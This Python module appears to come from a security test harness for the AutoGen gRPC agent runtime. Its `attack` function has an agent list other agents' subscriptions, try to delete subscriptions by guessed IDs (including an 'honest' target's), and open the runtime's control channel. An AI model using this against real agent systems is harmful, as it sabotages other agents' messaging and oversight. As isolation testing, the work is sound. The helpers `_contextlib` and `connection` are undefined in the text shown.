"""List everybody's subscriptions and remove them, by the calls and by the control channel."""

import asyncio

REFUSED = "control channel|subscription"


async def attack(agent, message, ctx, targets):
    from autogen_ext.runtimes.grpc.protos import agent_worker_pb2 as pb

    link, found = connection(agent), []
    with _contextlib.suppress(Exception):
        listed = await link.stub.GetSubscriptions(pb.GetSubscriptionsRequest(), metadata=link.metadata)
        found += [one for one in listed.subscriptions if agent.id.type not in str(one)]
    for name in ("1", targets["honest"], "00000000-0000-0000-0000-000000000000"):
        with _contextlib.suppress(Exception):
            await link.stub.RemoveSubscription(pb.RemoveSubscriptionRequest(id=name), metadata=link.metadata)
            found.append(name)
    with _contextlib.suppress(Exception):
        call = link.stub.OpenControlChannel(metadata=link.metadata)
        got = await asyncio.wait_for(call.read(), 3)
        found += [repr(got)] if got else []
    return [str(one) for one in found]
